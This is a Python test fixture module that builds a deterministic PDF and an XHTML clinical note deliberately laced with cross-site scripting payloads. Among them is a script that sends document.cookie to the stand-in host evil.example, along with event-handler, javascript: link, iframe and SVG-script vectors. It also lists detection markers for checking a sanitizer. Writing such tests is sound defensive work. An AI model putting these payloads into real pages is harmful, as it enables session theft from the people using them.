"""Note bodies as documents: a one-page PDF (fpdf2), and XHTML carrying hostile markup on purpose.

The XHTML is what a careless upstream or a compromised template could send: a script, a style, an
event handler, a `javascript:` link, an image that runs code on error, an iframe and an SVG script.
The gateway must hand clients only the note's words (see sources/fhir/sanitize.py).
"""

from __future__ import annotations

import datetime as dt
import html

from fpdf import FPDF

__all__ = ["HOSTILE_MARKERS", "hostile_xhtml", "pdf_document"]

_FIXED = dt.datetime(2024, 1, 1, tzinfo=dt.UTC)  # the same bytes for the same note, run after run

HOSTILE_MARKERS: tuple[str, ...] = (
    "<script", "alert(", "onload", "onerror", "javascript:", "<style", "color:", "<iframe", "evil.example",
    "<a ", "href", "<img", "<svg",
)  # fmt: skip
"""Strings of the hostile markup that must never reach a client."""


def pdf_document(title: str, text: str) -> bytes:
    """A one-page PDF holding `title` and `text` (Latin-1), the same bytes for the same input."""
    pdf = FPDF()
    pdf.set_creation_date(_FIXED)
    pdf.set_title(title)
    pdf.add_page()
    pdf.set_font("helvetica", style="B", size=13)
    pdf.multi_cell(0, 8, title, new_x="LMARGIN", new_y="NEXT")
    pdf.set_font("helvetica", size=11)
    pdf.multi_cell(0, 6, text)
    return bytes(pdf.output())


def hostile_xhtml(title: str, text: str) -> str:
    """An XHTML document holding `text` (one paragraph a line) wrapped in hostile markup."""
    lines = text.splitlines() or [""]
    first = f"<p onclick=\"alert('p')\"><b>{html.escape(lines[0])}</b></p>"
    rest = "".join(f"<p>{html.escape(line)}</p>" for line in lines[1:])
    return (
        '<!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml">'
        f"<head><title>{html.escape(title)}</title><style>body {{ color: red }}</style>"
        "<script>alert('head')</script></head>"
        f"<body onload=\"alert('load')\">{first}"
        "<script type=\"text/javascript\">document.location='https://evil.example/steal?c='+document.cookie</script>"
        f"{rest}"
        '<p>Patient education: <a href="javascript:alert(\'link\')">see the handout</a>.</p>'
        '<img src="x" onerror="alert(\'img\')"/>'
        '<iframe src="https://evil.example/frame"></iframe>'
        "<svg><script>alert('svg')</script></svg>"
        "</body></html>"
    )
